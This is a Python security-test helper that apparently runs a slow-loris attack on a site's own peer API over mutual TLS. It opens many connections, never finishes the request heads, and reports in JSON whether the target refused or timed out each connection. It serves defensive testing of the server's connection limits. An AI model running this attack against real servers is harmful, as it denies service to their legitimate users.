"""The attacker of the peer-connection tests: a real process holding ONE site's config (its TLS
certificate and key) that opens many connections to an honest site's peer API and never finishes
a request head on any of them (slow-loris).

Run as ``python3 -m tests.security.conn_attacker --config SITE.toml --target SITE [options]``: it
opens ``--connections`` connections (at most ``--opening`` handshakes at once), over mutual TLS
when the config has ``[tls]`` (the site's own certificate), writes on each the start of a request
head (``POST /v1/peer/fetch HTTP/1.1`` and a Host line, never the empty line that ends a head),
then one more header byte every ``--drip-s`` seconds, and keeps each open until the target closes
it or ``--hold-s`` seconds have passed since the first was opened; with ``--reopen-s`` a connection
the target closed is opened again after that pause (the target then nearly always faces
``--connections``). Prints one JSON line: opened,
connect errors by kind, and how each opened connection ended: ``closed_at_once`` (the target
closed it within ``--at-once-s`` of its head's first bytes: refused), ``closed_later`` (with the
shortest and longest time it was held: the target's deadline), ``held_to_the_end``. Exits 0
whatever the target did (the tests judge the honest site, not the attacker's view).
"""

from __future__ import annotations

import argparse
import asyncio
import collections
import json
import ssl
import sys
import time
from pathlib import Path

from replicad.config import load_config
from replicad.peer.tls import client_context


async def _slot(host: str, port: int, ctx: ssl.SSLContext | None, opening: asyncio.Semaphore, until: float,
                drip_s: float, at_once_s: float, reopen_s: float | None, tally: collections.Counter[str],
                held: list[float]) -> None:
    """One connection, and (``reopen_s``) the next one after each the target closed, until ``until``."""
    while True:
        await _one(host, port, ctx, opening, until, drip_s, at_once_s, tally, held)
        if reopen_s is None or time.monotonic() + reopen_s >= until:
            return
        await asyncio.sleep(reopen_s)


async def _one(host: str, port: int, ctx: ssl.SSLContext | None, opening: asyncio.Semaphore, until: float,
               drip_s: float, at_once_s: float, tally: collections.Counter[str], held: list[float]) -> None:
    """One connection: open it, start a head, drip it until the target closes it or ``until``."""
    async with opening:
        try:
            r, w = await asyncio.wait_for(
                asyncio.open_connection(host, port, ssl=ctx, server_hostname=host if ctx else None),
                max(0.01, until - time.monotonic()))
        except (OSError, ssl.SSLError, asyncio.TimeoutError) as err:
            tally[f"connect:{type(err).__name__}"] += 1
            return
    tally["opened"] += 1
    t0 = time.monotonic()
    try:
        w.write(f"POST /v1/peer/fetch HTTP/1.1\r\nHost: {host}\r\nX-Pad: ".encode())
        while time.monotonic() < until:
            try:
                data = await asyncio.wait_for(r.read(600), min(drip_s, max(0.01, until - time.monotonic())))
            except (asyncio.TimeoutError, TimeoutError):
                w.write(b"a")  # one more byte of a header line that never ends
                continue
            if not data:  # closed by the target
                break
            tally["answered"] += 1  # a head never finished deserves no answer: counted, and waited on
        else:
            tally["held_to_the_end"] += 1
            return
    except (OSError, ssl.SSLError):
        pass
    finally:
        w.transport.abort()
    lasted = time.monotonic() - t0
    if lasted <= at_once_s:
        tally["closed_at_once"] += 1
    else:
        tally["closed_later"] += 1
        held.append(lasted)


async def _run(args: argparse.Namespace) -> dict:
    cfg = load_config(Path(args.config))
    (target,) = [s for s in cfg.sites if s.site_id == args.target]
    url = str(target.peer_url).rstrip("/")
    host, port = url.split("//", 1)[1].rsplit(":", 1)
    ctx = None
    if cfg.tls is not None:
        ctx = client_context(cfg.tls)
        ctx.check_hostname = False  # the attacker does not care who answers
    tally: collections.Counter[str] = collections.Counter()
    held: list[float] = []
    until = time.monotonic() + args.hold_s
    opening = asyncio.Semaphore(args.opening)
    await asyncio.gather(*(_slot(host, int(port), ctx, opening, until, args.drip_s, args.at_once_s, args.reopen_s,
                                 tally, held) for _ in range(args.connections)))
    return {"site": cfg.site_id, **dict(tally),
            "held_min_s": round(min(held), 2) if held else None, "held_max_s": round(max(held), 2) if held else None}


def main(argv: list[str] | None = None) -> int:
    """Parse ``argv`` and run the attack; prints one JSON document."""
    p = argparse.ArgumentParser(prog="conn_attacker")
    p.add_argument("--config", required=True)
    p.add_argument("--target", required=True)
    p.add_argument("--connections", type=int, default=256)
    p.add_argument("--opening", type=int, default=32, help="handshakes in progress at once")
    p.add_argument("--hold-s", type=float, default=12.0)
    p.add_argument("--drip-s", type=float, default=1.0, help="one more head byte this often")
    p.add_argument("--reopen-s", type=float, default=None, help="open a closed connection's successor after this")
    p.add_argument("--at-once-s", type=float, default=1.0, help="closed within this of opening: refused")
    args = p.parse_args(argv)
    print(json.dumps(asyncio.run(_run(args))), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
